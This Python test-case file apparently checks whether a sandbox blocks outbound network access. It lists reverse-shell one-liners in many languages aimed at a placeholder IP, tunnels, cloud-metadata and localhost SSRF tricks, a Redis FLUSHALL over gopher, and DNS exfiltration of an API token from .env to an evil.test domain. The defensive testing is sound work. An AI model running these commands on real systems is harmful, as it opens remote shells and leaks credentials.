"""Everything that reaches another machine, or a port of this one that is not the session's."""

from cases.case import Case

SEES = "reached"

GROUPS = {
    "remote-shell": [
        "bash -c 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
        "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read l; do sh -c \"$l\" >&5; done",
        "sh -i 5<> /dev/tcp/10.4.4.4/4444 0<&5 1>&5 2>&5",
        "0<&196; exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
        "python3 -c 'import socket, os, pty; s = socket.create_connection((\"203.0.113.7\", 4444)); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; "
        "os.execl(\"/bin/sh\", \"sh\")'",
        "perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4444, inet_aton(\"203.0.113.7\"))); open(STDIN, \">&S\"); exec(\"sh\")'",
        Case("node -e 'require(\"net\").connect(4444, \"203.0.113.7\")'", needs=("node",)),
        "mkfifo p; openssl s_client -quiet -connect 203.0.113.7:4444 < p | sh > p 2> /dev/null",
        "rm -f p; mkfifo p; cat p | sh 2>&1 | telnet 203.0.113.7 4444 > p || python3 dial.py 203.0.113.7:4444",
        "awk 'BEGIN { s = \"/inet/tcp/0/203.0.113.7/4444\"; print \"x\" |& s }' 2> /dev/null || python3 dial.py 203.0.113.7:4444",
        "sh -i >& /dev/udp/203.0.113.7/4444 0>&1 < /dev/null",
        Case("gcc -xc - -o r <<'E' && ./r\n#include <arpa/inet.h>\n#include <unistd.h>\nint main() { struct sockaddr_in a = {AF_INET, htons(4444)}; "
             "inet_pton(AF_INET, \"203.0.113.7\", &a.sin_addr); int s = socket(2, 1, 0); connect(s, (void *)&a, sizeof a); return 0; }\nE", needs=("gcc",)),
        Case("echo 'class R { public static void main(String[] a) throws Exception { new java.net.Socket(\"203.0.113.7\", 4444); } }' > R.java; java R.java",
             needs=("java",)),
    ],
    "tunnel": [
        Case("ssh -oBatchMode=yes -N -R 9999:localhost:22 collect.test", needs=("ssh",)),
        Case("ssh -oBatchMode=yes -f -D 1080 collect.test sleep 1", needs=("ssh",)),
        "ngrok http 80",
        "cloudflared tunnel --url localhost:80",
        "cp ~/.local/bin/ngrok ./t && ./t tcp 22",
        "python3 -c 'import socket; socket.create_connection((\"::ffff:203.0.113.7\", 443))'",
    ],
    "tcp": [
        "exec 3<> /dev/tcp/127.0.0.1/8080; echo x >&3",
        "python3 dial.py localhost:8080",
        "python3 dial.py 203.0.113.7:443",
        "python3 dial.py 10.4.4.4:22",
        "python3 dial.py metadata.test:80",
        "python3 dial.py origin.test:443",
        "curl -s http://169.254.169.254/latest/meta-data/",
        "curl -s --resolve x.test:80:169.254.169.254 http://x.test/",
        "curl -s http://metadata.test/",
        "curl -s http://local.test:9200/",
        "curl -s 'http://[::ffff:169.254.169.254]/'",
        "curl -s 'http://[::1]:8080/' -X POST",
        "curl -s http://2130706433:8080/ -d x",
        "curl -s -x http://127.0.0.1:8080 http://nowhere.test/",
        "http_proxy=http://127.0.0.1:8080 curl -s http://nowhere.test/",
        "python3 -c 'import socket; s = socket.socket(); s.setblocking(False); s.connect_ex((\"203.0.113.7\", 80)); import time; time.sleep(0.1)'",
        "python3 -c 'import socket; s = socket.socket(); s.sendto(b\"x\", 0x20000000, (\"203.0.113.7\", 80))'",
        "python3 -c 'import socket; s = socket.socket(socket.AF_INET, 1, 262); s.connect((\"203.0.113.7\", 80))' || python3 dial.py 203.0.113.7:80",
        "python3 -c 'import os, socket, threading\nfor i in range(200): threading.Thread(target=lambda: socket.socket().connect_ex((\"203.0.113.7\", 80))).start()'",
        "curl -s telnet://127.0.0.1:25 <<< quit",
        "curl -s gopher://127.0.0.1:6379/_FLUSHALL",
    ],
    "udp": [
        "echo x > /dev/udp/203.0.113.7/514",
        "echo x > /dev/udp/127.0.0.1/8125",
        "python3 -c 'import socket; socket.socket(2, 2).sendto(b\"x\", (\"127.0.0.1\", 514))'",
        "python3 -c 'import socket; s = socket.socket(2, 2); s.connect((\"203.0.113.7\", 123)); s.send(b\"x\")'",
        "python3 -c 'import socket; socket.socket(2, 2).sendmsg([b\"x\"], [], 0, (\"203.0.113.7\", 4444))'",
        "python3 -c 'import socket; socket.socket(10, 2).sendto(b\"x\", (\"::ffff:203.0.113.7\", 514))'",
        "python3 -c 'import ctypes, socket\nclass V(ctypes.Structure): _fields_ = [(\"b\", ctypes.c_char_p), (\"n\", ctypes.c_size_t)]\n"
        "class M(ctypes.Structure): _fields_ = [(\"a\", ctypes.c_char_p), (\"l\", ctypes.c_uint), (\"v\", ctypes.POINTER(V)), (\"k\", ctypes.c_size_t), "
        "(\"c\", ctypes.c_void_p), (\"m\", ctypes.c_size_t), (\"f\", ctypes.c_long), (\"s\", ctypes.c_uint)]\n"
        "u = socket.socket(2, 2); a = socket.AF_INET.to_bytes(2, \"little\") + (514).to_bytes(2, \"big\") + socket.inet_aton(\"203.0.113.7\") + bytes(8)\n"
        "m = (M * 2)(M(None, 0, None, 0, None, 0, 0, 0), M(a, 16, ctypes.pointer(V(b\"x\", 1)), 1, None, 0, 0, 0))\n"
        "print(ctypes.CDLL(None).sendmmsg(u.fileno(), ctypes.byref(m, ctypes.sizeof(M)), 1, 0))'",
        Case("curl -s tftp://127.0.0.1:4444/x --max-time 1"),
    ],
    "dns": [
        "getent hosts canary-a.evil.test",
        "python3 -c 'import socket; socket.getaddrinfo(\"canary-b.evil.test\", 80)'",
        "curl -s http://$(echo canary-c).evil.test/",
        "getent ahosts $(sed -n 's/API_TOKEN=//p' .env | tr A-Z a-z).evil.test",
        "python3 -c 'import socket; s = socket.socket(2, 2); s.sendto(b\"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6canary\\4test\\0\\0\\1\\0\\1\", (\"127.0.0.1\", 53))'",
        "python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", 53)); s.send(b\"x\")'",
        Case("ssh -oBatchMode=yes canary-d.evil.test", needs=("ssh",)),
        "git ls-remote https://canary-e.evil.test/a",
        "ping -c1 canary-f.evil.test || getent hosts canary-f.evil.test",
    ],
    "other-protocols": [
        "python3 -c 'import socket\ns = socket.socket(2, 2, 1); s.settimeout(2); s.sendto(b\"\\x08\\0\\0\\0\\0\\1\\0\\1canary\", (\"203.0.113.7\", 0)); "
        "print(\"REACHED\" if s.recv(100) else 0)'",
        "python3 -c 'import socket, struct\ns = socket.socket(16, 3, 9); print(\"REACHED audit\")'",
        "python3 -c 'import socket\ns = socket.socket(40, 1); print(\"REACHED vsock\")' 2> /dev/null || python3 dial.py 203.0.113.7:80",
        "unshare -Urn sh -c 'ip link set lo up && echo REACHED'",
        "unshare -Ur python3 -c 'import socket; socket.socket(2, 3, 255); print(\"REACHED\")' || unshare -Urn python3 -c 'import socket; socket.socket(2, 3, 255); print(\"REACHED\")'",
    ],
}
